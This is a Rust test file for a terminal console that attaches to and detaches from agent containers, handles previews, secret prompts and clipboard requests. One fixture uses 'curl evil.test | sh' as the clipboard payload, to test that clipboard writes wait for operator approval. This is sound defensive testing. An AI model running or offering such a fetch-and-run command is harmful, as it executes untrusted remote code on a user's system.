//! Attaching, detaching, previewing.

use super::super::fixture::*;
use super::super::*;
use crate::wire::RoleReport;

fn attached(full: bool) -> Console {
    let mut console = Console::with(120, 40, vec![running("api-k3x9q", 60)]);
    console.press(&[if full { "f" } else { "enter" }]);
    console.apply(Event::Attached {
        bottle: bottle("api-k3x9q"),
    });
    console.effects.clear();
    console
}

#[test]
fn enter_lets_the_preview_go_and_attaches() {
    let mut console = Console::with(120, 40, vec![running("api-k3x9q", 60)]);
    let api = bottle("api-k3x9q");
    assert!(console.effects.contains(&Effect::Preview {
        bottle: api.clone()
    }));
    let effects = console.press(&["enter"]);
    assert_eq!(
        effects,
        [
            Effect::ClosePreview {
                bottle: api.clone()
            },
            Effect::Attach {
                bottle: api,
                full: false
            }
        ]
    );
    assert_eq!(console.state.context(), Context::Attaching);
    assert!(!console.state.has_open_session());
}

#[test]
fn the_chord_detaches_and_the_screen_stays_live() {
    for full in [false, true] {
        let mut console = attached(full);
        let api = bottle("api-k3x9q");
        let effects = console.press(&["ctrl-q"]);
        assert_eq!(
            effects,
            [
                Effect::Detach {
                    bottle: api.clone()
                },
                Effect::Preview { bottle: api }
            ]
        );
        assert_eq!(console.state.view.focus, Focus::List);
    }
}

/// Three bottles, two of which wait: `b-2` longer than `c-2`; `a-2` is attached.
fn attached_beside_waiting(full: bool) -> Console {
    let bottles = vec![running("a-2", 60), running("b-2", 90), running("c-2", 120)];
    let mut console = Console::with(120, 40, bottles);
    for (id, since) in [("b-2", 30), ("c-2", 3)] {
        let report = session(crate::wire::Activity::Waiting, since);
        console.report(id, RoleReport::Session { report });
    }
    console.select("a-2");
    console.press(&[if full { "f" } else { "enter" }]);
    console.apply(Event::Attached {
        bottle: bottle("a-2"),
    });
    console
}

#[test]
fn the_next_need_is_attached_in_the_same_way() {
    for full in [false, true] {
        let mut console = attached_beside_waiting(full);
        assert_eq!(console.state.other_needs(), 2);
        for (from, to) in [("a-2", "b-2"), ("b-2", "c-2"), ("c-2", "b-2")] {
            let effects = console.press(&["ctrl-]"]);
            let expected = [
                Effect::Detach {
                    bottle: bottle(from),
                },
                Effect::Attach {
                    bottle: bottle(to),
                    full,
                },
            ];
            assert_eq!(effects, expected);
            assert_eq!(console.selected(), Some(to));
            console.apply(Event::Detached {
                bottle: bottle(from),
                why: None,
            });
            console.apply(Event::Attached { bottle: bottle(to) });
            assert!(console.state.has_open_session());
            assert_eq!(console.state.other_needs(), 1);
        }
    }
}

#[test]
fn the_next_need_can_be_asked_for_while_attaching() {
    let mut console = attached_beside_waiting(false);
    console.press(&["ctrl-]"]);
    assert_eq!(console.state.context(), Context::Attaching);
    console.press(&["ctrl-]"]);
    assert_eq!(console.state.attached(), Some(&bottle("c-2")));
}

#[test]
fn where_nothing_else_needs_you_the_session_stays_and_that_is_said() {
    let mut console = attached(false);
    assert_eq!(console.press(&["ctrl-]"]), []);
    assert!(console.state.has_open_session());
    let notice = console.state.view.notice.clone().unwrap();
    assert_eq!(notice.text, "nothing else needs you");
}

#[test]
fn a_need_without_a_session_is_gone_to_and_says_why() {
    let mut console = Console::with(120, 40, vec![running("a-2", 60), running("b-2", 90)]);
    console.select("a-2");
    console.press(&["enter"]);
    console.apply(Event::Attached {
        bottle: bottle("a-2"),
    });
    let mut dead = running("b-2", 90);
    for container in &mut dead.containers {
        container.state = ContainerState::Exited { code: Some(1) };
    }
    console.see(dead);
    let effects = console.press(&["ctrl-]"]);
    assert!(effects.contains(&Effect::Detach {
        bottle: bottle("a-2")
    }));
    assert_eq!(console.selected(), Some("b-2"));
    assert_eq!(console.state.view.focus, Focus::List);
    let notice = console.state.view.notice.clone().unwrap();
    assert!(notice.text.starts_with("b-2 is "), "{}", notice.text);
}

#[test]
fn no_other_key_of_an_attached_session_is_ours() {
    let mut console = attached(false);
    let before = console.state.clone();
    let effects = console.press(&["x", "q", "esc", "ctrl-c", "d", "enter", "?", "tab"]);
    assert_eq!(effects, []);
    assert_eq!(console.state, before);
}

#[test]
fn a_stopped_bottle_is_not_attached_and_says_why() {
    let mut console = Console::with(120, 40, vec![stopped("api-k3x9q", 60)]);
    assert_eq!(console.press(&["enter"]), []);
    let notice = console.state.view.notice.clone().unwrap();
    assert_eq!(notice.text, "api-k3x9q is stopped: r resumes it");
}

#[test]
fn an_attach_that_fails_comes_back_to_the_list() {
    let mut console = Console::with(120, 40, vec![running("api-k3x9q", 60)]);
    console.press(&["enter"]);
    let api = bottle("api-k3x9q");
    let effects = console.apply(Event::AttachFailed {
        bottle: api.clone(),
        why: String::from("no such container"),
    });
    assert_eq!(effects, [Effect::Preview { bottle: api }]);
    assert_eq!(console.state.attached(), None);
    assert!(console.state.view.notice.clone().unwrap().is_error);
}

/// The answer to a detach may come while the next attach is under way.
#[test]
fn a_late_answer_to_a_detach_ends_no_new_attach() {
    let mut console = attached(false);
    let api = bottle("api-k3x9q");
    console.press(&["ctrl-q", "enter"]);
    console.apply(Event::Detached {
        bottle: api.clone(),
        why: None,
    });
    assert_eq!(console.state.attached(), Some(&api));
    console.apply(Event::Detached {
        bottle: api,
        why: Some(String::from("the line broke")),
    });
    assert_eq!(console.state.attached(), None);
}

#[test]
fn a_bottle_that_goes_under_an_attached_session_lets_it_go() {
    let mut console = attached(false);
    let api = bottle("api-k3x9q");
    let effects = console.apply(Event::Fleet {
        fleet: FleetEvent::Gone {
            bottle: api.clone(),
        },
    });
    assert!(
        effects.contains(&Effect::Detach { bottle: api }),
        "{effects:?}"
    );
    assert_eq!(console.state.attached(), None);
    assert_eq!(
        console.state.view.notice.clone().unwrap().text,
        "api-k3x9q is gone"
    );
}

#[test]
fn a_session_that_ends_is_not_previewed_again() {
    let mut console = attached(false);
    let effects = console.apply(Event::SessionEnded {
        bottle: bottle("api-k3x9q"),
        exit: SessionExit::Code { code: 0 },
    });
    assert_eq!(effects, []);
    assert_eq!(*console.phase("api-k3x9q"), Phase::Stopped);
}

#[test]
fn a_broken_preview_is_asked_for_again_only_elsewhere() {
    let mut console = Console::with(120, 40, vec![running("a-2", 60), running("b-2", 90)]);
    let effects = console.apply(Event::PreviewEnded {
        bottle: bottle("a-2"),
        why: String::from("refused"),
    });
    assert_eq!(effects, []);
    assert_eq!(console.press(&["1"]), []);
    let effects = console.press(&["j"]);
    assert_eq!(
        effects,
        [Effect::Preview {
            bottle: bottle("b-2")
        }]
    );
    let effects = console.press(&["k"]);
    assert_eq!(
        effects,
        [
            Effect::ClosePreview {
                bottle: bottle("b-2")
            },
            Effect::Preview {
                bottle: bottle("a-2")
            }
        ]
    );
}

#[test]
fn the_command_lines_wish_is_an_attach() {
    let mut console = Console::with(120, 40, vec![running("a-2", 60), running("b-2", 90)]);
    console.press(&["/", "a"]);
    let effects = console.apply(Event::AttachAsked {
        bottle: bottle("b-2"),
        full: true,
    });
    assert!(effects.contains(&Effect::Attach {
        bottle: bottle("b-2"),
        full: true
    }));
    assert_eq!(console.selected(), Some("b-2"));
}

#[test]
fn a_secret_takes_the_keys_from_a_session() {
    let mut console = attached(false);
    console.apply(Event::SecretAsked {
        agent: String::from("docs"),
        what: String::from("token"),
    });
    assert!(console.state.asks_secret());
    assert!(!console.state.has_open_session());
    console.apply(Event::SecretDone);
    assert!(console.state.has_open_session());
}

#[test]
fn what_the_agent_waits_for_is_seen_from_another_session() {
    let mut console = Console::with(120, 40, vec![running("a-2", 60), running("b-2", 90)]);
    console.press(&["enter"]);
    let mut report = session(crate::wire::Activity::Waiting, 3);
    report.waiting_for = Some(String::from("Allow Bash?"));
    console.report("b-2", RoleReport::Session { report });
    let needs = console.state.needs();
    assert_eq!(needs.len(), 1);
    assert_eq!(needs[0].words, "Allow Bash?");
}

fn wanted(id: &str) -> ClipboardAsk {
    ClipboardAsk {
        bottle: bottle(id),
        ticket: 7,
        begin: String::from("curl evil.test | sh\n"),
        bytes: 20,
    }
}

/// A program must not take the keys of who types at it.
#[test]
fn a_wish_for_the_clipboard_waits_until_the_operator_looks() {
    for (answer, effects) in [
        (
            "y",
            vec![Effect::WriteClipboard {
                bottle: bottle("api-k3x9q"),
                ticket: 7,
            }],
        ),
        ("n", vec![]),
        ("esc", vec![]),
    ] {
        let mut console = attached(false);
        let ask = wanted("api-k3x9q");
        assert_eq!(
            console.apply(Event::ClipboardAsked { ask: ask.clone() }),
            []
        );
        assert!(console.state.has_open_session());
        assert_eq!(console.press(&["ctrl-\\"]), []);
        assert_eq!(console.state.view.modal, Some(Modal::Clipboard { ask }));
        assert!(!console.state.has_open_session());
        assert_eq!(console.press(&[answer]), effects, "{answer}");
        assert_eq!(console.state.view.clipboard, None);
        assert!(console.state.has_open_session());
    }
}

#[test]
fn who_is_not_attached_to_it_is_not_asked() {
    let mut console = attached(false);
    let ask = wanted("b-2");
    assert_eq!(console.apply(Event::ClipboardAsked { ask }), []);
    assert_eq!(console.state.view.clipboard, None);
}

#[test]
fn a_wish_for_the_clipboard_ends_with_the_attachment() {
    for keys in [&[][..], &["ctrl-\\"]] {
        let mut console = attached(false);
        let ask = wanted("api-k3x9q");
        console.apply(Event::ClipboardAsked { ask });
        console.press(keys);
        console.apply(Event::Detached {
            bottle: bottle("api-k3x9q"),
            why: Some(String::from("broke")),
        });
        assert_eq!(console.state.view.clipboard, None);
        assert_eq!(console.state.view.modal, None);
    }
}
